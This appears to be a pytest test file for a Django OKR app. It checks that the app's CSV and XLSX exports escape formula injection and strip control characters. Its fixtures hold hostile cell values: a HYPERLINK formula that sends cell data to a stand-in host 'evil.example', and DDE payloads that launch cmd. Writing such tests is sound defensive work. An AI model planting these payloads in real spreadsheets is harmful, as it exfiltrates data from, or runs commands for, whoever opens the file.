"""Every CSV and XLSX the app writes holds only what the format allows, and never a live formula.

Titles are planted with a queryset update, as data already in a database would be, whatever
the input rules of the day let through. Each download is read back.
"""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.test import Client
from openpyxl import Workbook, load_workbook

from okrflow.okrs.actions import record_key_result_value
from okrflow.okrs.models import KeyResult, Objective
from okrflow.spreadsheets import (
    allowed_text,
    append_row,
    csv_bytes,
    csv_cell,
    looks_like_formula,
    sheet_title,
)
from tests.conftest import PASSWORD, World, make_objective

CONTROL_TITLE = "Sales\x01 push\x08 now\x1b\x0b!"
CLEAN_CONTROL_TITLE = "Sales push now !"
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
FORMULA_KR = "+cmd|' /C calc'!A0"
MINUS_KR = "-2+3+cmd|' /C calc'!A0"


@pytest.fixture
def hostile(world: World) -> tuple[Objective, Objective]:
    """Two objectives with hostile titles, one with a key result at a negative value."""
    controlled = make_objective(world, world.member, "placeholder one")
    formula = make_objective(world, world.member, "placeholder two")
    Objective.objects.filter(pk=controlled.pk).update(title=CONTROL_TITLE)
    Objective.objects.filter(pk=formula.pk).update(title=FORMULA_TITLE)
    kr = formula.key_results.get()
    KeyResult.objects.filter(pk=kr.pk).update(title=FORMULA_KR, start_value=Decimal("-10"))
    other = controlled.key_results.get()
    KeyResult.objects.filter(pk=other.pk).update(title=MINUS_KR)
    record_key_result_value(None, kr, value="-3")
    return controlled, formula


def signed_in(client: Client, world: World) -> Client:
    assert client.login(username=world.member.user.username, password=PASSWORD)
    return client


def every_cell(content: bytes) -> list:  # type: ignore[type-arg]
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_live_formula(content: bytes) -> list:  # type: ignore[type-arg]
    cells = every_cell(content)
    assert all(cell.data_type != "f" for cell in cells)
    return cells


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


# --- the writer itself ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-5", "-5"),
        ("-1,5", "-1,5"),
        ("-10.000,25", "-10.000,25"),
        ("-12 %", "-12 %"),
        ("Tăng 5%", "Tăng 5%"),
        ("a\x00b\x01c\x1fd", "abcd"),
        ("line\nbreak\ttab", "line\nbreak\ttab"),
        ("form\x0cfeed", "form feed"),
        ("x\ufffey\uffff", "xy"),
    ],
)
def test_csv_cells_are_never_formulas_nor_hold_control_characters(value: str, written: str) -> None:
    assert csv_cell(value) == written


def test_numbers_stay_numbers() -> None:
    assert csv_cell(Decimal("-5")) == Decimal("-5")
    assert csv_cell(-2.5) == -2.5
    assert csv_bytes([["a", Decimal("-5")]]) == "\ufeffa,-5\r\n".encode()
    book = Workbook()
    append_row(book.active, ["=1+1", -5, Decimal("-1.5"), "-3"])
    cells = list(book.active[1])
    assert [c.data_type for c in cells] == ["s", "n", "n", "s"]
    assert [c.value for c in cells] == ["=1+1", -5, Decimal("-1.5"), "-3"]


def test_text_is_kept_when_nothing_is_wrong() -> None:
    assert allowed_text("Tăng doanh số 20% — “quý II”") == "Tăng doanh số 20% — “quý II”"
    assert not looks_like_formula("Tăng 5%")
    assert looks_like_formula("=A1")


@pytest.mark.parametrize(
    ("name", "title"),
    [
        ("Q2: 2026/[draft]?*", "Q2- 2026-[draft]--".replace("[", "-").replace("]", "-")),
        ("\x01\x02", "Sheet"),
        ("x" * 40, "x" * 31),
        ("'quoted'", "quoted"),
    ],
)
def test_sheet_titles_excel_accepts(name: str, title: str) -> None:
    assert sheet_title(name) == title
    book = Workbook()
    book.active.title = sheet_title(name)  # openpyxl refuses anything else


# --- the library export -------------------------------------------------------------------


def test_library_xlsx_export_with_control_characters_and_formulas(
    client: Client, world: World, hostile: tuple[Objective, Objective]
) -> None:
    response = signed_in(client, world).get(f"/library/export/{world.cycle.pk}/xlsx/")
    assert response.status_code == 200
    cells = assert_no_live_formula(response.content)
    values = [cell.value for cell in cells]
    assert CLEAN_CONTROL_TITLE in values
    assert FORMULA_TITLE in values and FORMULA_KR in values and MINUS_KR in values
    numbers = [cell.value for cell in cells if cell.data_type == "n"]
    assert -10 in numbers and -3 in numbers


def test_library_csv_export_with_control_characters_and_formulas(
    client: Client, world: World, hostile: tuple[Objective, Objective]
) -> None:
    response = signed_in(client, world).get(f"/library/export/{world.cycle.pk}/csv/")
    assert response.status_code == 200
    cells = [cell for row in csv_rows(response.getvalue()) for cell in row]
    assert CLEAN_CONTROL_TITLE in cells
    assert "'" + FORMULA_TITLE in cells and "'" + FORMULA_KR in cells
    assert "'" + MINUS_KR in cells
    assert "-10" in cells and "-3" in cells  # real negative numbers are not guarded
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_library_xlsx_export_of_a_cycle_named_with_sheet_forbidden_characters(
    client: Client, world: World, hostile: tuple[Objective, Objective]
) -> None:
    type(world.cycle).objects.filter(pk=world.cycle.pk).update(name="Q2: 2026/[a]\x01")
    response = signed_in(client, world).get(f"/library/export/{world.cycle.pk}/xlsx/")
    assert response.status_code == 200
    assert load_workbook(io.BytesIO(response.content)).worksheets[0].title == "Q2- 2026--a-"


# --- the quarterly review -------------------------------------------------------------------


def review(client: Client, world: World, fmt: str) -> bytes:
    response = signed_in(client, world).get(
        f"/insights/cycles/{world.cycle.pk}/report.{fmt}?lang=en"
    )
    assert response.status_code == 200, fmt
    return response.content


def test_review_xlsx_with_control_characters_and_formulas(
    client: Client, world: World, hostile: tuple[Objective, Objective]
) -> None:
    cells = assert_no_live_formula(review(client, world, "xlsx"))
    values = [cell.value for cell in cells]
    assert CLEAN_CONTROL_TITLE in values
    assert FORMULA_TITLE in values and FORMULA_KR in values


def test_review_csv_with_control_characters_and_formulas(
    client: Client, world: World, hostile: tuple[Objective, Objective]
) -> None:
    cells = [cell for row in csv_rows(review(client, world, "csv")) for cell in row]
    assert CLEAN_CONTROL_TITLE in cells
    assert "'" + FORMULA_TITLE in cells and "'" + FORMULA_KR in cells
    assert "'" + MINUS_KR in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
    assert not any(ch in cell for cell in cells for ch in "\x01\x08\x1b\x0b")


def test_review_pdf_with_control_characters_and_markup(
    client: Client, world: World, hostile: tuple[Objective, Objective]
) -> None:
    controlled, _formula = hostile
    Objective.objects.filter(pk=controlled.pk).update(title=CONTROL_TITLE + " <b>& </para>")
    content = review(client, world, "pdf")
    assert content.startswith(b"%PDF")


def test_every_csv_and_xlsx_the_app_writes_goes_through_the_one_writer() -> None:
    """A new export cannot forget the rules: only okrflow/spreadsheets.py writes CSV, and any
    module that builds a workbook uses its helpers (the next test checks how)."""
    package = Path(__file__).resolve().parents[1] / "okrflow"
    offenders = []
    for path in package.rglob("*.py"):
        if path.name == "spreadsheets.py":
            continue
        source = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)\(", source):
            offenders.append(f"{path.relative_to(package)}: a CSV writer of its own")
        if "Workbook(" in source and "okrflow.spreadsheets import" not in source:
            offenders.append(f"{path.relative_to(package)}: a workbook without the writer")
    assert offenders == []


def test_xlsx_rows_are_only_appended_by_the_writer(
    client: Client,
    world: World,
    hostile: tuple[Objective, Objective],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Both workbooks add rows only through `append_row` (which cleans and types every cell)."""
    import inspect

    from openpyxl.worksheet.worksheet import Worksheet

    callers: set[str] = set()
    original = Worksheet.append

    def recording_append(self: Worksheet, iterable: object) -> None:
        frame = inspect.currentframe()
        assert frame is not None and frame.f_back is not None
        callers.add(frame.f_back.f_globals["__name__"])
        original(self, iterable)

    monkeypatch.setattr(Worksheet, "append", recording_append)
    signed_in(client, world)
    assert client.get(f"/library/export/{world.cycle.pk}/xlsx/").status_code == 200
    assert client.get(f"/insights/cycles/{world.cycle.pk}/report.xlsx").status_code == 200
    assert callers == {"okrflow.spreadsheets"}
